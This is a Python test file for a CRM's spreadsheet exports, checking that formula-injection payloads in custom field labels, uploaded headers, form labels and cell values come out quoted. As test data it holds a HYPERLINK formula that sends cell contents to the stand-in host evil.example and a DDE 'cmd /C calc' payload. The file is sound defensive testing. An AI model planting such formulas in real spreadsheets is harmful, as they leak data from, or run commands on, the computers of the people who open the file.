"""Every file we write for a spreadsheet defuses formulas in every cell, headers included: the
contact export (CSV and Excel, from the list and from the command line), the kickoff form
submissions export, and an import's failed rows. Hostile text reaches headers through custom
field labels, an uploaded file's header (a new custom field made from it), and form field
labels. (There is no company or audit log export to check.)"""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from core.db import db
from core.jobs import run_pending_jobs
from core.spreadsheet import FORMULA_STARTS, safe_cell
from core.tenancy import tenant_context
from crm.imports import engine
from crm.imports.mapping import NEW_FIELD
from tests.crm.import_files import csv_bytes
from tests.factories import make_contact, make_custom_field
from tests.forms.factories import add_field, make_form, make_submission
from tests.support import in_tenant, staff_member

HOSTILE = '=HYPERLINK("http://evil.example/?d="&D2&D3,"Open")'
HOSTILE_CELLS = ("=1+1", "+1 call me", "-2+3", "@SUM(A1)", "\tTAB", "\rCR")


def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _xlsx_cells(data: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _assert_defused(rows: list[list], *, must_hold: str = HOSTILE) -> None:
    """No cell of any row, the header included, can start a formula; the hostile text is
    there, quoted, so nothing was lost either."""
    flat = [cell for row in rows for cell in row if isinstance(cell, str)]
    live = [cell for cell in flat if cell.startswith(FORMULA_STARTS)]
    assert live == [], f"cells a spreadsheet would run: {live}"
    assert "'" + must_hold in flat


def test_the_writer_defuses_every_leading_formula_character_and_keeps_numbers():
    assert [safe_cell(v) for v in HOSTILE_CELLS] == ["'" + v for v in HOSTILE_CELLS]
    assert safe_cell(safe_cell("=1")) == "'=1"  # twice changes nothing
    assert (safe_cell(-5), safe_cell(2.5), safe_cell(None), safe_cell("plain")) == (-5, 2.5, "", "plain")


def test_contact_exports_defuse_custom_field_labels_and_values(app, world, staff_client):
    def setup():
        field = make_custom_field(label=HOSTILE, field_type="text")
        make_contact("=cmd|' /C calc'!A0", "@Attacker", email="hostile@example.com",
                     custom_fields={field.key: "+1 555 0100"}, job_title="-2+3")
    in_tenant(app, world.a, setup)
    client = staff_client("owner")
    csv_rows = _csv_cells(client.get("/staff/contacts/export?format=csv").get_data(as_text=True))
    assert "'" + HOSTILE in csv_rows[0]  # the header
    _assert_defused(csv_rows)
    assert "'=cmd|' /C calc'!A0" in csv_rows[1] and "'+1 555 0100" in csv_rows[1]
    xlsx_rows = _xlsx_cells(client.get("/staff/contacts/export?format=xlsx").data)
    assert "'" + HOSTILE in xlsx_rows[0]
    _assert_defused(xlsx_rows)


def test_a_custom_field_made_from_an_uploaded_header_cannot_arm_later_exports(app, world, staff_client, tmp_path):
    """The reported attack: an import whose header is a formula, mapped as a new custom field."""
    with app.app_context(), tenant_context(world.a.id):
        owner = staff_member(world.a, "owner")
        upload = engine.new_import(io.BytesIO(csv_bytes([["Email", HOSTILE], ["victim@example.com", "=D2"]])),
                                   "people.csv", actor=owner)
        engine.set_mapping(upload, ["email", NEW_FIELD])
        engine.start_import(upload, {}, actor=owner)
        db.session.commit()
    with app.app_context():
        run_pending_jobs()
    client = staff_client("owner")
    rows = _csv_cells(client.get("/staff/contacts/export?format=csv").get_data(as_text=True))
    _assert_defused(rows)
    assert "'=D2" in rows[1]
    _assert_defused(_xlsx_cells(client.get("/staff/contacts/export?format=xlsx").data))
    out = tmp_path / "contacts.xlsx"
    result = app.test_cli_runner().invoke(args=["contacts", "export", "--tenant", world.a.slug, "--format", "xlsx",
                                                "--output", str(out)])
    assert result.exit_code == 0, result.output
    _assert_defused(_xlsx_cells(out.read_bytes()))
    printed = app.test_cli_runner().invoke(args=["contacts", "export", "--tenant", world.a.slug])
    _assert_defused(_csv_cells(printed.stdout))


def test_submission_exports_defuse_form_field_labels_and_answers(app, world, staff_client):
    def setup():
        form = make_form("Join")
        add_field(form, key="pitch", kind="short_text", label=HOSTILE)
        make_submission(form, {"first_name": "@Ada", "email": "ada@example.com", "pitch": "=2*3"})
        return form.id
    form_id = in_tenant(app, world.a, setup)
    client = staff_client("owner")
    base = "/staff/forms/submissions/export"
    rows = _csv_cells(client.get(f"{base}?as=csv&form={form_id}").get_data(as_text=True))
    assert "'" + HOSTILE in rows[0]
    _assert_defused(rows)
    assert "'=2*3" in rows[1]
    _assert_defused(_xlsx_cells(client.get(f"{base}?as=xlsx&form={form_id}").data))


def test_the_failed_rows_file_defuses_the_uploaded_header_and_cells(app, world, staff_client):
    with app.app_context(), tenant_context(world.a.id):
        owner = staff_member(world.a, "owner")
        upload = engine.new_import(io.BytesIO(csv_bytes([["Email", HOSTILE], ["not-an-email", "-1+2"]])),
                                   "people.csv", actor=owner)
        engine.set_mapping(upload, ["email", ""])
        engine.start_import(upload, {}, actor=owner)
        db.session.commit()
        import_id = upload.id
    with app.app_context():
        run_pending_jobs()
    rows = _csv_cells(staff_client("owner").get(f"/staff/imports/{import_id}/failed.csv").get_data(as_text=True))
    assert rows[0][:2] == ["Email", "'" + HOSTILE]
    assert rows[1][:2] == ["not-an-email", "'-1+2"]
    _assert_defused(rows)
